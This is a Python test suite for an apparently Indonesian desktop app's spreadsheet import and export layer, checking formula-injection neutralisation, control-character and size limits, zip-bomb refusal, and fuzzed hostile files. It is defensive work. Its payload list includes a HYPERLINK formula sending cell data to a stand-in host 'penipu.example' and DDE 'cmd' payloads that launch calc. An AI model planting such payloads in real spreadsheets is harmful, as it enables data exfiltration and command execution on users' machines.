"""Hostile files, written as attacks on the file layer: exports never carry a live formula; an
import refuses control characters, oversized cells, damaged, zip-bomb and oversized workbooks
with a message naming the row and column; a corpus of random and mutated workbooks ends in a
DomainError with Indonesian text, never a traceback."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

import kinerja_desktop
from kinerja_desktop.domain.errors import DomainError
from kinerja_desktop.exchange import batas_impor as b
from kinerja_desktop.exchange import tabular as t

KOLOM = {"nip": ["NIP"], "nama": ["Nama"], "jabatan": ["Jabatan"]}
WAJIB = ["nip", "nama"]

BERBAHAYA = [
    '=HYPERLINK("http://penipu.example/?d="&A2,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
AMAN = ["-", "-5", "+62", "Ani", "3,5", "", "Kepala Seksi - Umum"]


def test_xlsx_export_carries_no_live_formula(tmp_path):
    path = tmp_path / "e.xlsx"
    kolom = [t.KolomEkspor("NIP", 20, teks=True), t.KolomEkspor("Nama", 30)]
    t.write_xlsx(path, "Data", kolom, [[v, v] for v in BERBAHAYA + AMAN])
    with zipfile.ZipFile(path) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
    ws = load_workbook(path).active
    sel = {c.value: c for row in ws.iter_rows(min_row=2) for c in row}
    for v in BERBAHAYA:
        assert sel[v].data_type == "s" and sel[v].quotePrefix, v  # shown as typed, as text
    for v in AMAN:
        if v:
            assert not sel[v].quotePrefix, v


def test_xlsx_export_of_plain_columns_is_neutralised_too(tmp_path):
    path = tmp_path / "p.xlsx"
    t.write_xlsx(path, "Data", [t.KolomEkspor("Nama", 30)], [[v] for v in BERBAHAYA])
    ws = load_workbook(path).active
    assert all(c.data_type == "s" for row in ws.iter_rows(min_row=2) for c in row)


def test_csv_export_prefixes_formula_like_cells(tmp_path):
    path = tmp_path / "e.csv"
    assert t.tulis_csv(path, ["Nama", "=judul"], [[v, v] for v in BERBAHAYA + AMAN]) == 14
    with path.open(newline="", encoding="utf-8-sig") as fh:
        baris = list(csv.reader(fh, delimiter=";"))
    assert baris[0] == ["Nama", "'=judul"]
    for (a, _b), v in zip(baris[1:], BERBAHAYA + AMAN, strict=True):
        assert a == ("'" + v if v in BERBAHAYA else v)


def test_every_exporter_writes_through_the_file_layer():
    """No csv.writer or openpyxl Workbook outside exchange/tabular.py: one place neutralises."""
    paket = Path(kinerja_desktop.__file__).parent
    pelanggar = []
    for py in paket.rglob("*.py"):
        if py.name == "tabular.py":
            continue
        pohon = ast.parse(py.read_text("utf-8"))
        for node in ast.walk(pohon):
            tulis_csv = (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            buku = (
                isinstance(node, ast.ImportFrom)
                and node.module == "openpyxl"
                and any(a.name == "Workbook" for a in node.names)
            )
            if tulis_csv or buku:
                pelanggar.append(str(py))
    assert pelanggar == []


# --- imports ----------------------------------------------------------------------------------


def _csv(path: Path, rows: list[list[str]]) -> Path:
    path.write_text("\n".join(";".join(r) for r in rows), "utf-8")
    return path


def _xlsx(path: Path, rows: list[list[object]]) -> Path:
    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    wb.save(path)
    return path


@pytest.mark.parametrize("kendali", ["\x00", "\x01", "\x1b", "\x7f"])
def test_control_characters_in_csv_are_refused_with_row_and_column(tmp_path, kendali):
    rows = [["NIP", "Nama"], ["196608011988031001", "Budi"], ["1966", f"Ani{kendali}Jahat"]]
    path = _csv(tmp_path / "a.csv", rows)
    with pytest.raises(t.FileFormatError, match=r"baris 3, kolom B: berisi karakter kendali"):
        t.read_table(path, KOLOM, WAJIB)


def test_control_characters_in_xlsx_are_refused(tmp_path):
    # Excel writes them escaped (_x0001_), which stays plain text; raw ones are invalid XML
    path = _xlsx(tmp_path / "a.xlsx", [["NIP", "Nama"], ["1", "PENANDA"]])
    _ganti_di_xlsx(path, b"PENANDA", b"Ani\x01Jahat")
    with pytest.raises(t.FileFormatError, match=r"rusak|karakter kendali"):
        t.read_table(path, KOLOM, WAJIB)


def _ganti_di_xlsx(path: Path, lama: bytes, baru: bytes) -> None:
    isi = {}
    with zipfile.ZipFile(path) as zf:
        for i in zf.infolist():
            isi[i.filename] = zf.read(i).replace(lama, baru)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for n, b in isi.items():
            zf.writestr(n, b)


def test_csv_cell_over_the_reader_limit_is_a_message(tmp_path):
    path = _csv(tmp_path / "besar.csv", [["NIP", "Nama"], ["1", '"' + "x" * 140_000 + '"']])
    with pytest.raises(t.FileFormatError, match=r"baris 2"):
        t.read_table(path, KOLOM, WAJIB)


def test_cell_over_the_size_limit_is_refused(tmp_path):
    # (an .xlsx cannot hold more: openpyxl, like Excel, stops at 32,767 characters)
    path = _csv(tmp_path / "s.csv", [["NIP", "Nama"], ["1", "y" * (b.BATAS_SEL + 1)]])
    with pytest.raises(t.FileFormatError, match=r"baris 2, kolom B: isi sel terlalu panjang"):
        t.read_table(path, KOLOM, WAJIB)


@pytest.mark.parametrize("buat", [_csv, _xlsx], ids=["csv", "xlsx"])
def test_too_many_rows_or_columns_are_refused(tmp_path, buat, monkeypatch):
    monkeypatch.setattr(b, "BATAS_BARIS", 50)
    ext = ".csv" if buat is _csv else ".xlsx"
    path = buat(tmp_path / f"r{ext}", [["NIP", "Nama"]] + [[str(i), "Ani"] for i in range(60)])
    with pytest.raises(t.FileFormatError, match=r"lebih dari 50 baris \(baris 51\)"):
        t.read_table(path, KOLOM, WAJIB)
    lebar = [["NIP", "Nama"], ["1", "Ani"] + ["x"] * b.BATAS_KOLOM]
    path = buat(tmp_path / f"k{ext}", lebar)
    with pytest.raises(
        t.FileFormatError, match=r"baris 2: lebih dari 500 kolom terisi \(kolom SH\)"
    ):
        t.read_table(path, KOLOM, WAJIB)


def test_zip_bomb_workbook_is_refused_before_it_is_parsed(tmp_path):
    path = _xlsx(tmp_path / "bom.xlsx", [["NIP", "Nama"], ["1", "Ani"]])
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/media/bom.xml", b" " * (40 << 20))
    with pytest.raises(t.FileFormatError, match="zip bom"):
        t.read_table(path, KOLOM, WAJIB)


def test_damaged_sheet_xml_is_a_message(tmp_path):
    path = _xlsx(tmp_path / "rusak.xlsx", [["NIP", "Nama"], ["1", "Ani"]])
    _ganti_di_xlsx(path, b"</sheetData>", b"<row><c>")
    with pytest.raises(t.FileFormatError, match="rusak"):
        t.read_table(path, KOLOM, WAJIB)


def test_truncated_workbook_is_a_message(tmp_path):
    path = _xlsx(tmp_path / "potong.xlsx", [["NIP", "Nama"], ["1", "Ani"]])
    path.write_bytes(path.read_bytes()[:-200])
    with pytest.raises(t.FileFormatError):
        t.read_table(path, KOLOM, WAJIB)


# --- a corpus of hostile files: only DomainError, with Indonesian text -------------------------

_ASLI = io.BytesIO()
_wb = Workbook()
for _r in [["Daftar pegawai"], [], ["NIP", "Nama", "Jabatan"], ["1", "Ani", "=1+1"]]:
    _wb.active.append(_r)
_wb.save(_ASLI)
XLSX_ASLI = _ASLI.getvalue()

KORPUS = settings(
    max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)


def _coba(path: Path) -> None:
    try:
        t.read_table(path, KOLOM, WAJIB)
    except DomainError as exc:
        pesan = str(exc)
        assert pesan and "Traceback" not in pesan
        assert any(k in pesan for k in ("Berkas", "berkas", "Kolom", "Baris", "baris")), pesan


@KORPUS
@given(data=st.binary(max_size=3000), ext=st.sampled_from([".csv", ".xlsx", ".txt"]))
def test_random_bytes_end_in_a_message(tmp_path, data, ext):
    path = tmp_path / f"acak{ext}"
    path.write_bytes(data)
    _coba(path)


@KORPUS
@given(
    posisi=st.lists(st.integers(0, len(XLSX_ASLI) - 1), min_size=1, max_size=8),
    nilai=st.integers(0, 255),
    potong=st.none() | st.integers(30, len(XLSX_ASLI)),
)
def test_mutated_workbooks_end_in_a_message(tmp_path, posisi, nilai, potong):
    data = bytearray(XLSX_ASLI)
    for p in posisi:
        data[p] = nilai
    path = tmp_path / "mutasi.xlsx"
    path.write_bytes(bytes(data[:potong]))
    _coba(path)


@KORPUS
@given(
    sel=st.lists(
        st.lists(
            st.text(st.characters(blacklist_categories=("Cs",)), max_size=30)
            | st.sampled_from([*BERBAHAYA, "\x00", '"', '"a""b', "x" * 40_000]),
            min_size=1,
            max_size=5,
        ),
        max_size=8,
    ),
    pemisah=st.sampled_from([",", ";", "\t", "|"]),
)
def test_hostile_csv_end_in_a_table_or_a_message(tmp_path, sel, pemisah):
    path = tmp_path / "h.csv"
    path.write_text("\n".join(pemisah.join(r) for r in [["NIP", "Nama"], *sel]), "utf-8")
    _coba(path)
